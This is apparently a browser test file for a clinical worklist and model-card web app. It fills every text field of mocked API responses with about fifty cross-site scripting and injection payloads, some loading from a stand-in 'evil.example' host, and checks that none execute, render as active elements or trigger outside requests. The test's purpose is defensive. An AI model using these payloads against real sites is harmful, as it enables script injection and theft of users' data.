/** Texts of records and of models that look like markup, code or tricks of writing: shown as what they are, and nothing runs. */
import { expect, test } from '@jest/globals';
import type { PatientView, Worklist } from '../../src/server/page/page-answers.ts';
import { openPatient, opener } from './browser.ts';
import * as fixtures from './fixtures.ts';
import { ok } from './fixture-server.ts';

const run = 'window.ran=1;alert(1)';
const texts: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><foreignObject><body onload="${run}"></foreignObject></svg>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<body onload="${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="https://evil.example/">`,
  `<style>*{display:none}</style>`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  `<template><script>${run}</script></template>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus='`,
  `javascript:${run}`,
  `\`-${run}-\``,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `<%= ${run} %>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `<scr\0ipt>${run}</scr\0ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  `__proto__`,
  `constructor`,
  `\u202Egnp.txt\u202C مرحبا שלום`,
  `👩🏽‍⚕️ ${'Z̡̢̛͙͔̗'.repeat(20)} ${'W'.repeat(400)}`,
];

const start = opener();

/** The texts, each in its place, over and over. */
function poisoned<T>(value: T, next: () => string, keep: RegExp): T {
  const walk = (part: unknown, key: string): unknown => {
    if (typeof part === 'string') return keep.test(key) ? part : next();
    if (Array.isArray(part)) return part.map((item) => walk(item, key));
    if (typeof part === 'object' && part !== null)
      return Object.fromEntries(Object.entries(part).map(([name, item]) => [name, walk(item, name)]));
    return part;
  };
  return walk(value, '') as T;
}

/** What has to be of a form for an answer to be one: ids, dates, enumerations. */
const formal =
  /^(id|patientId|encounter|admission|discharge|birthDate|direction|from|until|source|sha256|start|end|asOf|kind|resource|resources|createdAt|date|status|horizonUnit|when)$/;

test(`${texts.length} texts in every field of every answer`, async () => {
  expect(texts).toHaveLength(50);
  let place = 0;
  const used = new Set<string>();
  const next = (): string => {
    const text = texts[place % texts.length] as string;
    place += 1;
    used.add(text);
    return text;
  };
  const list: Worklist = poisoned(fixtures.worklist(60), next, formal);
  const viewOf = (id: unknown): PatientView => poisoned(fixtures.patientView(Number(String(id).slice(1))), next, formal);
  const watched = await start({
    'POST /v1/worklist': () => ok(list),
    'POST /v1/patient': ({ body }) => ok(viewOf(body['patientId'])),
    'GET /v1/model': () => ok(poisoned(fixtures.description(), next, formal)),
    'GET /v1/model/card': () => ok(poisoned(fixtures.card(), next, formal)),
    'GET /v1/model/metrics': () => ok(poisoned(fixtures.metrics(), next, /^$/)),
  });
  const { page, foreign, complaints } = watched;
  const clean = async (): Promise<void> => {
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(
      await page
        .locator(
          '#page :is(script, style, iframe, img, object, embed, link, base, meta, form[action], video, audio, math, template)',
        )
        .count(),
    ).toBe(0);
    expect(
      await page.evaluate(
        '[...document.querySelectorAll("#page *")].some((e) => e.getAttributeNames().some((n) => n.startsWith("on")))',
      ),
    ).toBe(false);
    expect(await page.evaluate('[...document.querySelectorAll("#page a")].every((a) => a.origin === location.origin)')).toBe(
      true,
    );
    expect({ foreign, complaints }).toEqual({ foreign: [], complaints: [] });
  };
  await page.locator('.ranked').waitFor();
  await clean();
  const shown = (await page.locator('.ranked').textContent()) ?? '';
  const names = list.entries.map(({ person }) => person.name).filter((name) => name !== null);
  expect(names.filter((name) => shown.includes(name)).length).toBeGreaterThan(40);
  for (let i = 0; i < 6; i += 1) {
    await openPatient(page, i);
    for (const reason of (await page.locator('button.reason').all()).slice(0, 5)) await reason.click();
    await clean();
    await page.goBack();
    await page.locator('.ranked').waitFor();
  }
  await page.getByRole('link', { name: 'Model', exact: true }).click();
  await page.locator('.card').first().waitFor();
  for (const summary of await page.locator('summary').all()) await summary.click();
  await clean();
  expect(used.size).toBe(texts.length);
});
